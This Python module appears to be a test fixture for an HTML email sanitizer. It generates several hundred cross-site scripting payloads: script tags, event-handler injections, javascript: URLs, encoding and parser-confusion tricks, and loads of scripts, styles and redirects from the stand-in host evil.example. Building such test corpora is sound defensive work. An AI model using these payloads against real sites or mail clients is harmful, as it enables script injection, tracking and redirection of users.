"""What a hostile mail may say: well over four hundred ways to run, to load or to lead away."""

from __future__ import annotations

from collections.abc import Callable, Iterator

RUN = "window.top.pwned=1;alert(1)"

BY_HAND = (
    f"<script>{RUN}</script>", f'"><script>{RUN}</script>', f"'><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f'"><img src=x onerror="{RUN}">', f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<details open ontoggle={RUN}>",
    f'<iframe srcdoc="<script>{RUN}</script>">', f'<iframe src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}>",
    f"<math><mtext></p><script>{RUN}</script>", "<style>@import 'https://evil.example/x'</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/pixel.png">', '<base href="https://evil.example/">',
    '<object data="https://evil.example/x"></object>', '<embed src="https://evil.example/x">',
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"javascript:{RUN}",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->", f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>", f"<x onpointerenter={RUN} tabindex=1>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<marquee onstart={RUN}>",
    "<p style=\"background:url('https://evil.example/x')\">", f"<select autofocus onfocus={RUN}>",
    "<script src='https://evil.example/x.js'></script>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"\u202e<script>{RUN}</script>\u202d", f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<img/src='x'/onerror='{RUN}'>",
)  # fmt: skip

_HANDLERS = (
    ("img", "src=x", "onerror"), ("image", "src=x", "onerror"), ("svg", "", "onload"),
    ("body", "", "onload"), ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("x", "tabindex=1 autofocus", "onfocus"),
    ("details", "open", "ontoggle"), ("object", "data=x", "onerror"), ("iframe", "", "onload"),
    ("style", "", "onload"), ("script", "src=x", "onerror"), ("link", "rel=stylesheet href=x",
     "onerror"), ("input", "type=image src=x", "onerror"), ("marquee", "loop=1", "onfinish"),
    ("a", "href=x", "onmouseover"), ("p", "contenteditable autofocus", "onfocus"),
    ("svg><set", "attributeName=x dur=1s", "onbegin"), ("svg><image", "href=x", "onerror"),
    ("math><mi", "tabindex=1 autofocus", "onfocus"),
)  # fmt: skip
"""A tag, the attributes that it needs, and what it does by itself, when focused or touched."""


def _entities(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


_WRITINGS: tuple[Callable[[str, str, str], str], ...] = (
    lambda t, a, on: f"<{t} {a} {on}={RUN}>",
    lambda t, a, on: f'<{t} {a} {on}="{RUN}">',
    lambda t, a, on: f"<{t} {a} {on}='{RUN}'>",
    lambda t, a, on: f"<{t}/{a.replace(' ', '/')}/{on}='{RUN}'>",
    lambda t, a, on: f"<{t.upper()} {a} {on.upper()}={RUN}>",
    lambda t, a, on: f"<{t}\t{a}\x0c{on}\t=\t'{RUN}'>",
    lambda t, a, on: f'"><{t} {a} {on}="{RUN}">',
    lambda t, a, on: f"--><{t} {a} {on}={RUN}>",
    lambda t, a, on: f"</style></title></textarea><{t} {a} {on}={RUN}>",
    lambda t, a, on: f"<noscript><{t} {a} {on}={RUN}></noscript>",
    lambda t, a, on: f"<{t} {a} {on}={_entities(RUN)}>",
    lambda t, a, on: f"<{t} title='</{t}>' {a} {on}={RUN}>",
    lambda t, a, on: f"<svg><foreignObject><{t} {a} {on}={RUN}></foreignObject></svg>",
    lambda t, a, on: f"<math><annotation-xml encoding=text/html><{t} {a} {on}={RUN}>",
    lambda t, a, on: f"<table><tr><td><{t} {a} {on}={RUN}></table>",
)
_SCHEMES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}",
    f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}",
    f"javascript://%0a{RUN}", f"data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;",
    f"vbscript:{RUN}", "//evil.example/x", "https:evil.example",
)  # fmt: skip
_LEADING = (
    "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button>x</button>",
    "<button formaction='{}' form=f>x</button><form id=f></form>", "<object data='{}'></object>",
    "<svg><a href='{}'><text y=20>x</text></a></svg>",
)  # fmt: skip


def _generated() -> Iterator[str]:
    for tag, attributes, handler in _HANDLERS:
        for write in _WRITINGS:
            yield write(tag, attributes, handler)
    for element in _LEADING:
        for scheme in _SCHEMES:
            yield element.format(scheme)


PAYLOADS = tuple(dict.fromkeys((*BY_HAND, *_generated())))
"""Each is put into the ten places of `places`."""
